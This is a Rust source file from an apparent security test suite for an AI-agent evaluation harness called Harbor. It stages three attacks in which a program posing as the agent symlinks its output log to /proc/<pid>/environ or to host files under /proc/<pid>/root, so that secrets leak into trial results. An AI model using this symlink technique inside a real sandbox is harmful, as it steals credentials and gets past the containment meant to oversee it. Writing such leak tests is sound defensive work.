//! What the runner and the server know, read through `/proc` by a link in the logs.

use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, bail};

use super::definition::Attack;
use super::machine::Machine;
use super::target::{Submission, Target};
use super::task::{HostileTask, unique};
use super::trial::Trial;
use super::verdict::Verdict;

const PATIENCE: Duration = Duration::from_mins(2);

/// What a program takes for the agent `nemo-agent`: Harbor puts the last line of its output into the result, whatever its size says.
const PYTHON_OF_NEMO_AGENT: &str = "opt/nvidia-nat-venv/bin/python3";

/// Waits until it is told what to aim at, as one that guesses would have to guess, and leaves the link.
const AIM: &str = "for _ in $(seq 300); do [ -s /tmp/aim ] && break; sleep 0.1; done
ln -sfn \"$(cat /tmp/aim)\" /logs/agent/nemo-agent-output.txt
echo an answer";

/// Whose file in `/proc` is read.
#[derive(Clone, Copy)]
enum Process {
    Runner,
    Server,
}

#[derive(Clone, Copy)]
enum Part {
    /// Its environment, which has a secret in it.
    Environment,
    /// A file of the host, by the process's root folder.
    Root,
}

struct Aim {
    name: &'static str,
    tried: &'static str,
    process: Process,
    part: Part,
}

static AIMS: [Aim; 3] = [
    Aim {
        name: "runner-environment-link",
        tried: "a file that Harbor puts into its result links to /proc/<runner>/environ",
        process: Process::Runner,
        part: Part::Environment,
    },
    Aim {
        name: "server-environment-link",
        tried: "a file that Harbor puts into its result links to /proc/<server>/environ",
        process: Process::Server,
        part: Part::Environment,
    },
    Aim {
        name: "runner-root-link",
        tried: "a file that Harbor puts into its result links to a file below /proc/<runner>/root",
        process: Process::Runner,
        part: Part::Root,
    },
];

/// The attacks of this file.
pub(super) fn attacks() -> Vec<Attack> {
    let attacks = AIMS.iter().map(|aim| {
        let attack = move |machine: &Machine, target: &Target| read(machine, target, aim);
        Attack::shared(aim.name, aim.tried, attack)
    });
    attacks.collect()
}

fn read(machine: &Machine, target: &Target, aim: &Aim) -> Result<Verdict> {
    let secret = unique("password");
    let host = machine.host_file(&format!("{secret}\n"))?;
    let task = HostileTask::new("proc").program(PYTHON_OF_NEMO_AGENT, AIM);
    let trial = target.run(&task, &Submission::of_installed("nemo-agent"))?;
    let state =
        trial.reached(PATIENCE, |state| state.is_over() || state.harbor_stage.as_deref() == Some("agent_running"))?;
    if state.is_over() {
        bail!("it ended before its agent ran: {}", state.told());
    }
    let process = match aim.process {
        Process::Runner => trial.runner().context("found no runner of the trial")?,
        Process::Server => target.stack.server(),
    };
    let (file, sought) = match aim.part {
        Part::Environment => (format!("/proc/{process}/environ"), &machine.secret),
        Part::Root => (format!("/proc/{process}/root{}", host.display()), &secret),
    };
    tell(machine, &trial, &file)?;
    let state = trial.ended(PATIENCE)?;
    let leak = trial.leak(sought)?.map(|place| format!("what {file} holds is in {place}"));
    trial.verdict(leak, &state)
}

/// Tells the program in the sandbox what to aim at.
fn tell(machine: &Machine, trial: &Trial, aim: &str) -> Result<()> {
    let label = format!("label=com.docker.compose.project={}", trial.project());
    let deadline = Instant::now() + PATIENCE;
    loop {
        let containers = machine.docker(&["ps", "--quiet", "--filter", &label])?;
        if let Some(container) = containers.lines().next() {
            return machine.docker(&["exec", container, "sh", "-c", &format!("echo {aim} > /tmp/aim")]).map(drop);
        }
        if Instant::now() > deadline {
            bail!("the sandbox of {} has no container", trial.id);
        }
        std::thread::sleep(Duration::from_millis(200));
    }
}
